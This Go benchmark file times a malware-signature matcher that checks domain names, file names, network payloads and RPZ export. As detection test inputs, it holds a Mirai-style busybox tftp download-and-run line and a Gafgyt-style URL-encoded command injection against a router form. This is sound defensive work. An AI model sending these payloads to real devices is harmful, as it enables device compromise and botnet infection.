package signatures

import (
	"fmt"
	"io"
	"net/netip"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"
)

var bigSet *Set

func loadBig(b *testing.B) *Set {
	if bigSet == nil {
		s, err := Parse("big", bigFile(1_000_000))
		if err != nil {
			b.Fatal(err)
		}
		bigSet = s
	}
	return bigSet
}

// BenchmarkMatchName: a query mix over a 1,000,000-name set, half listed.
func BenchmarkMatchName(b *testing.B) {
	s := loadBig(b)
	qs := make([]string, 4096)
	for i := range qs {
		n := i * 211
		if i%2 == 0 {
			qs[i] = "host" + strconv.Itoa(n) + ".tftp" + strconv.Itoa(n%997) + ".example."
		} else {
			qs[i] = "www" + strconv.Itoa(n) + ".unlisted.example.net."
		}
	}
	b.ReportAllocs()
	b.ResetTimer()
	hits := 0
	i := 0
	for b.Loop() {
		if _, ok := s.MatchName(qs[i&4095]); ok {
			hits++
		}
		i++
	}
	if hits == 0 {
		b.Fatal("no hits")
	}
}

func BenchmarkMatchNameWildcard(b *testing.B) {
	s, err := Parse("w", []byte("serial: 1\nsignatures:\n  - id: w\n    family: W\n    domains: ['*.worm.example', 'exact.example']\n"))
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	for b.Loop() {
		if _, ok := s.MatchName("A.Deep.Sub.Worm.Example."); !ok {
			b.Fatal("no match")
		}
	}
}

func BenchmarkMatchFile(b *testing.B) {
	s := Default()
	names := []string{`C:\WINDOWS\system32\MSBLAST.EXE`, "pxelinux.0", "/svchost.exe", "router-confg"}
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		s.MatchFile(names[i&3])
		i++
	}
}

func BenchmarkMatchPayload(b *testing.B) {
	s := Default()
	p := make([]byte, 1400)
	for i := range p {
		p[i] = byte('a' + i%26)
	}
	b.ReportAllocs()
	for b.Loop() {
		s.MatchPayload(TCP, 4444, p)
	}
}

// BenchmarkMatchPayloadCommand: the built-in command rules on a loader's
// telnet line, an exploit's URL-encoded body, and a web request that names
// loader files and tftp outside any fetch command.
func BenchmarkMatchPayloadCommand(b *testing.B) {
	s := Default()
	for _, c := range []struct {
		name string
		port uint16
		p    string
	}{
		{"telnet-mirai", 23, "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\r\n"},
		{"http-gafgyt", 80, "POST /boaform/formPing6 HTTP/1.1\r\nHost: 10.0.0.5\r\n\r\npingAddr=%3bcd+/tmp%3btftp+10.0.0.9+-c+get+axistftp1.sh%3bsh+axistftp1.sh%3btftp+-r+axistftp2.sh+-g+10.0.0.9"},
		{"http-innocent", 80, "GET /mirror/tftp/bins/tftp1.sh?q=tftp+mirai.arm7 HTTP/1.1\r\nHost: mirror.example\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n"},
	} {
		b.Run(c.name, func(b *testing.B) {
			p := []byte(c.p)
			b.ReportAllocs()
			b.SetBytes(int64(len(p)))
			for b.Loop() {
				s.MatchPayloads(TCP, c.port, p, func(PayloadMatch) bool { return true })
			}
		})
	}
}

// BenchmarkLoad1M loads a file of 1,000,000 plain-string names and reports
// the wall time per load and the heap the set keeps after GC.
func BenchmarkLoad1M(b *testing.B) {
	data := bigFile(1_000_000)
	b.ReportAllocs()
	b.ResetTimer()
	var s *Set
	var err error
	for b.Loop() {
		start := time.Now()
		s, err = Parse("big", data)
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(time.Since(start).Seconds(), "s/load")
	}
	b.StopTimer()
	data = nil
	runtime.GC()
	runtime.GC()
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	b.ReportMetric(float64(ms.HeapAlloc)/(1<<20), "MB-heap-after-GC")
	runtime.KeepAlive(s)
}

// BenchmarkMatchFilePatterns: the built-in set, with its loader patterns,
// on a name found by its exact listing, one found by a pattern, and two
// legitimate names that every pattern has to turn down.
func BenchmarkMatchFilePatterns(b *testing.B) {
	s := Default()
	names := []string{"mirai.arm7", "/tmp/dvrHelper.ARM7", "pxelinux.0", "firmware-v2.1.bin"}
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		s.MatchFile(names[i&3])
		i++
	}
}

// BenchmarkExportRPZWildcards exports 1,000,000 names as RPZ, one in ten a
// wildcard with a listed name below it, so that the covering entries for
// BIND and Unbound are written too.
func BenchmarkExportRPZWildcards(b *testing.B) {
	var sb strings.Builder
	sb.WriteString("serial: 1\nsignatures:\n  - id: perf\n    family: Perf\n    domains:\n")
	for i := range 1_000_000 {
		switch i % 10 {
		case 0:
			fmt.Fprintf(&sb, "      - \"*.w%07d.worm.test\"\n", i)
		case 1:
			fmt.Fprintf(&sb, "      - x.w%07d.worm.test\n", i-1)
		default:
			fmt.Fprintf(&sb, "      - w%07d.worm.test\n", i)
		}
	}
	s, err := Parse("big", []byte(sb.String()))
	if err != nil {
		b.Fatal(err)
	}
	sink := []netip.Addr{netip.MustParseAddr("192.0.2.66")}
	b.ReportAllocs()
	for b.Loop() {
		if err := Export(io.Discard, s, "rpz", sink); err != nil {
			b.Fatal(err)
		}
	}
}
